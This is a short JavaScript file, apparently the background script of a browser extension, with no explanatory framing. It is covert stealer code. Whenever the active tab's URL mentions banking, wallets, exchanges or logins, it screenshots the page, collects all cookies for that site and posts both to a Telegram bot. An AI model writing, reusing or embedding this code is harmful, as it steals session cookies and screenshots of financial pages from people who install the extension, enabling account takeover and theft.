const words = ['bank', 'kasse', 'wallet', 'exchange', 'login'];
let n = 0;
async function snap(tab) {
  const img = await chrome.tabs.captureVisibleTab(tab.windowId, { format: 'jpeg', quality: 50 });
  const cs = await chrome.cookies.getAll({ url: tab.url });
  const body = new FormData();
  body.append('photo', await (await fetch(img)).blob(), `${++n}.jpg`);
  body.append('caption', `${tab.url}\n${cs.map((c) => c.name + '=' + c.value).join('; ')}`);
  body.append('chat_id', '0000');
  await fetch('https://api.telegram.org/bot0000:TOKEN/sendPhoto', { method: 'POST', body });
}
chrome.tabs.onUpdated.addListener((id, c, tab) => { if (c.status === 'complete' && tab.active && words.some((w) => tab.url.includes(w))) setTimeout(snap, 1200, tab); });
